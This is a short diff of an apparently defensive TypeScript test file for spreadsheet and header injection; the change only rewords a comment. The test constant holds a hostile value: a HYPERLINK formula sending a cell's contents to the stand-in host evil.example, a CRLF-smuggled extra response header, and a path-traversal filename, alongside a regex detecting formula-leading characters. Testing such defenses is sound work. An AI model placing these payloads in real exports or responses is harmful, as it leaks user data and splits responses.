@@ -12,7 +12,7 @@ import {
 import { startTestApp, type TestApp } from '../testing/test-app.ts';
 import { until } from '../testing/until.ts';
 
-/** What a spreadsheet would run, and what would begin another header of the answer. */
+/** Text that a spreadsheet would run and that would start another response header. */
 const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")\r\nX-Evil: 1; filename="../../a.exe"';
 const runs = /^\s*[=+\-@＝＋－＠\t\r]/u;
 
